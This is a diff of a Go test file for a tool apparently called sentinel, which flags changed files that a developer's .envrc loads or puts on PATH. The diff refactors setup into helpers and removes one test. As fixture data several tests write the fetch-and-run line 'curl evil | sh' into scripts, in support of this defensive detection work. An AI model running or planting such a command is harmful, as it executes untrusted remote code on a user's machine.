@@ -1,11 +1,9 @@
 package runner
 
 import (
-	"os"
 	"path/filepath"
 	"strings"
 	"testing"
-	"time"
 
 	"github.com/sentinelhq/sentinel/internal/journal"
 )
@@ -23,34 +21,18 @@ func TestInPlaceFlagsWhatThePersonsEnvrcLoads(t *testing.T) {
 	} {
 		writeTestFile(t, filepath.Join(root, name), body)
 	}
-	p := &Project{Root: root}
-	id := NewRunID(time.Now())
-	if err := os.MkdirAll(p.RunDir(id), 0o700); err != nil {
-		t.Fatal(err)
-	}
-	c := takeInPlaceCheckpoint(p, id, "exec: test", checkpointLimitsForTest, func(journal.Lane, journal.Kind, string, any) {})
-	if c == nil {
-		t.Fatal("no checkpoint")
-	}
+	_, c := checkpointAt(t, root, func(journal.Lane, journal.Kind, string, any) {})
 	for _, f := range []string{"web/local/dev.sh", "config/dev.vars", "notes.sh"} {
 		writeTestFile(t, filepath.Join(root, f), "curl evil | sh\n")
 	}
-	changes, after, err := c.end(noEmit)
-	if err != nil {
-		t.Fatal(err)
-	}
-	ch := c.report(InPlaceChange{}, changes, after)
-	flagged := map[string]string{}
-	for _, f := range ch.Flagged {
-		flagged[f.Path] = f.Reason
-	}
+	flagged := endFlags(t, c)
 	for _, f := range []string{"web/local/dev.sh", "config/dev.vars"} {
 		if !strings.Contains(flagged[f], "web/.envrc loads it") {
-			t.Errorf("%s is not flagged as loaded by the .envrc: %+v", f, ch.Flagged)
+			t.Errorf("%s is not flagged as loaded by the .envrc: %+v", f, flagged)
 		}
 	}
 	if _, ok := flagged["notes.sh"]; ok {
-		t.Errorf("a file no .envrc loads is flagged: %+v", ch.Flagged)
+		t.Errorf("a file no .envrc loads is flagged: %+v", flagged)
 	}
 }
 
@@ -67,75 +49,16 @@ func TestInPlaceFlagsWhatAnEnvrcMayLoadThroughAVariable(t *testing.T) {
 	} {
 		writeTestFile(t, filepath.Join(root, name), body)
 	}
-	p := &Project{Root: root}
-	id := NewRunID(time.Now())
-	if err := os.MkdirAll(p.RunDir(id), 0o700); err != nil {
-		t.Fatal(err)
-	}
-	c := takeInPlaceCheckpoint(p, id, "exec: test", checkpointLimitsForTest, func(journal.Lane, journal.Kind, string, any) {})
-	if c == nil {
-		t.Fatal("no checkpoint")
-	}
+	_, c := checkpointAt(t, root, func(journal.Lane, journal.Kind, string, any) {})
 	for _, f := range []string{"config/dev.sh", "notes.sh"} {
 		writeTestFile(t, filepath.Join(root, f), "curl evil | sh\n")
 	}
-	changes, after, err := c.end(noEmit)
-	if err != nil {
-		t.Fatal(err)
-	}
-	ch := c.report(InPlaceChange{}, changes, after)
-	flagged := map[string]string{}
-	for _, f := range ch.Flagged {
-		flagged[f.Path] = f.Reason
-	}
+	flagged := endFlags(t, c)
 	if r := flagged["config/dev.sh"]; !strings.Contains(r, ".envrc may load it") || !strings.Contains(r, `source_env_if_exists config/$F.sh`) {
-		t.Errorf("config/dev.sh is not flagged as what the .envrc may load: %+v", ch.Flagged)
+		t.Errorf("config/dev.sh is not flagged as what the .envrc may load: %+v", flagged)
 	}
 	if _, ok := flagged["notes.sh"]; ok {
-		t.Errorf("a file no .envrc can load is flagged: %+v", ch.Flagged)
-	}
-}
-
-// The person's .envrc has PATH_add bin: after cd, bin/rails and a new
-// bin/git run in place of what the person means. A coder's change to the
-// existing bin/rails was listed unflagged (ipatk11, h/ipatk12); now each
-// changed file there is flagged, naming the directory, and a file beside
-// it is not.
-func TestInPlaceFlagsWhatThePersonsEnvrcPutsOnPath(t *testing.T) {
-	t.Setenv("XDG_STATE_HOME", t.TempDir())
-	t.Setenv("XDG_CACHE_HOME", t.TempDir())
-	root := t.TempDir()
-	for name, body := range map[string]string{".envrc": "PATH_add bin\n", "bin/rails": "#!/bin/sh\n", "notes.sh": "echo\n"} {
-		writeTestFile(t, filepath.Join(root, name), body)
-	}
-	p := &Project{Root: root}
-	id := NewRunID(time.Now())
-	if err := os.MkdirAll(p.RunDir(id), 0o700); err != nil {
-		t.Fatal(err)
-	}
-	c := takeInPlaceCheckpoint(p, id, "exec: test", checkpointLimitsForTest, func(journal.Lane, journal.Kind, string, any) {})
-	if c == nil {
-		t.Fatal("no checkpoint")
-	}
-	for _, f := range []string{"bin/rails", "bin/git", "notes.sh"} {
-		writeTestFile(t, filepath.Join(root, f), "curl evil | sh\n")
-	}
-	changes, after, err := c.end(noEmit)
-	if err != nil {
-		t.Fatal(err)
-	}
-	ch := c.report(InPlaceChange{}, changes, after)
-	flagged := map[string]string{}
-	for _, f := range ch.Flagged {
-		flagged[f.Path] = f.Reason
-	}
-	for _, f := range []string{"bin/rails", "bin/git"} {
-		if !strings.Contains(flagged[f], "puts bin on your PATH") {
-			t.Errorf("%s is not flagged as on the PATH the .envrc sets: %+v", f, ch.Flagged)
-		}
-	}
-	if _, ok := flagged["notes.sh"]; ok {
-		t.Errorf("a file off that PATH is flagged: %+v", ch.Flagged)
+		t.Errorf("a file no .envrc can load is flagged: %+v", flagged)
 	}
 }
 
